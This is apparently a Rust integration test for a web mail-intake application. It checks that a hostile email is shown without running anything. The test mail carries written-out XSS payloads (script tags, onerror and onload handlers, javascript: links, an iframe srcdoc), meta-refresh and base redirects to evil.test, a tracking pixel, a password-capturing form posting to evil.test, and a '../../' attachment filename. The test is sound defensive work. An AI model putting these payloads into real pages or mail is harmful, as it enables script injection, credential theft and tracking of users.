//! A mail that means harm is shown, and does none: in a real browser with scripts on.

use serde_json::{Value, json};
use tests::{Browser, Engine, Office, Setup, office::UNIT};

tests::on_both_engines!(shown_and_inert);

const HTML: &str = r##"<html><head><base href="https://evil.test/"><title>owned</title>
<meta http-equiv="refresh" content="0;url=https://evil.test/"><style>@import url(//evil.test/a.css);
body{background:url(https://evil.test/b.png)}</style><script>document.title='owned'</script></head>
<body onload="document.title='owned'"><p>看得见的话</p><img src=x onerror="document.title='owned'">
<img src="https://evil.test/pixel.png"><svg><script>document.title='owned'</script></svg>
<math><mtext></form><form action="https://evil.test/"><input name=password><button>登录</button></form>
<a href="javascript:document.title='owned'">点这里</a><iframe srcdoc="<script>parent.document.title=
'owned'</script>"></iframe><div style="position:fixed;inset:0;background:red">盖住</div></body></html>"##;

fn shown_and_inert(engine: Engine) {
    let office = Office::open(&Setup::new(engine));
    let huiyin = &office.huiyin;
    let mail = format!(
        "From: \"<script>document.title='owned'</script>\" <li@example.cn>\r\nTo: a@b.cn\r\n\
         Subject: <img src=x onerror=document.title='owned'>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; \
         charset=utf-8\r\n\r\n{HTML}\r\n--x\r\nContent-Type: image/svg+xml\r\n\
         Content-Disposition: attachment; filename=\"../../a.svg\"\r\n\r\n\
         <svg xmlns='http://www.w3.org/2000/svg'><script>document.title='owned'</script></svg>\r\n\
         --x\r\nContent-Type: text/html\r\nContent-Disposition: attachment; \
         filename=\"<b onmouseover=x>.html\"\r\n\r\n<script>document.title='owned'</script>\r\n--x--\r\n"
    );
    let path = huiyin.write("hostile.eml", &mail).display().to_string();
    let taken = huiyin.json(&["ingest", &path, "--channel", "director-mailbox"]);
    assert_eq!(taken["letters"], 1, "{taken}");
    let number = office.numbers().remove(0);
    office.hand_over(&number);

    let handler = huiyin.visitor();
    handler.sign_in(&office.handler.login, &office.handler.password);
    let page = handler.get(&format!("/desk/letters/{number}")).expect(200);
    for raw in ["<script", "<img src=x", "<b onmouseover"] {
        let scripts = page.body.replace("<script nonce", "");
        assert!(!scripts.contains(raw), "{raw} in {}", page.body);
    }
    let files: Vec<String> = links(&page.body, "/files/");
    assert!(files.len() >= 2, "{files:?}");
    for file in files {
        let file = handler.get(&file).expect(200);
        let header = |name: &str| file.header(name).unwrap_or_default().to_owned();
        assert!(
            header("content-disposition").starts_with("attachment"),
            "{file:?}"
        );
        assert!(!header("content-disposition").contains(".."), "{file:?}");
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert!(
            header("content-security-policy").contains("sandbox"),
            "{file:?}"
        );
        assert!(!header("content-type").contains("html"), "{file:?}");
        assert!(!header("content-type").contains("svg"), "{file:?}");
    }
    let html = links(&page.body, "/messages/").remove(0);
    let shown = handler.get(&html).expect(200);
    assert!(shown.body.contains("看得见的话"), "{}", shown.body);
    let small = shown.body.to_lowercase();
    for raw in [
        "<script",
        "onload",
        "onerror",
        "javascript:",
        "<form",
        "<iframe",
        "<meta http-equiv=\"refresh",
        "evil.test/pixel",
        "<base",
    ] {
        assert!(!small.contains(raw), "{raw} in {small}");
    }

    let browser = Browser::open(true);
    sign_in(
        &browser,
        &huiyin.base,
        &office.handler.login,
        &format!("{}-changed-1", office.handler.password),
    );
    for path in [&format!("/desk/letters/{number}"), &html, "/desk"] {
        browser.visit(&format!("{}{path}", huiyin.base));
        assert_ne!(browser.title(), "owned", "{path}");
        assert!(
            browser.url().starts_with(&huiyin.base),
            "{path} led to {}",
            browser.url()
        );
    }
    let _ = office.handler.api.act(
        &number,
        "note",
        json!({ "text": "<script>document.title='owned'</script>" }),
    );
    browser.visit(&format!("{}/desk/letters/{number}", huiyin.base));
    assert_ne!(browser.title(), "owned");
    let note = office.handler.api.letter(&number);
    assert_ne!(note, Value::Null);
    assert_eq!(note["unit"], UNIT, "{note}");
}

fn sign_in(browser: &Browser, base: &str, login: &str, password: &str) {
    browser.visit(&format!("{base}/login"));
    browser.fill("#login", login);
    browser.fill("#password", password);
    browser.click("main form button");
    browser.shows("main h1", "");
}

/// Addresses on a page that contain this.
fn links(page: &str, part: &str) -> Vec<String> {
    let mut all: Vec<String> = page
        .split("=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .filter(|link| link.contains(part))
        .map(tests::client::plain)
        .collect();
    all.dedup();
    all
}
